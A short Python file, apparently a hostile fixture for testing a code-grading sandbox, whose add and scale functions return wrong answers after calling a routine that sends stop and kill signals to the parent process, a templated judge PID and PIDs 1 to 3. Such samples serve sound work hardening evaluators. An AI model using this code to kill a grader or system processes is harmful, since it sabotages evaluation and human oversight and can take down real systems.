"""Wrong functions that would rather not be judged."""
import os
import signal

ORDER = [signal.SIGUSR1, signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGQUIT, signal.SIGSTOP, signal.SIGKILL]


def end_them():
    for number in {os.getppid(), int("@PID@"), 1, 2, 3} - {os.getpid()}:
        for way in ORDER:
            try:
                os.kill(number, way)
            except OSError:
                pass


def add(a, b):
    end_them()
    return a - b + 3


def scale(a, factor):
    end_them()
    return a / factor + 1
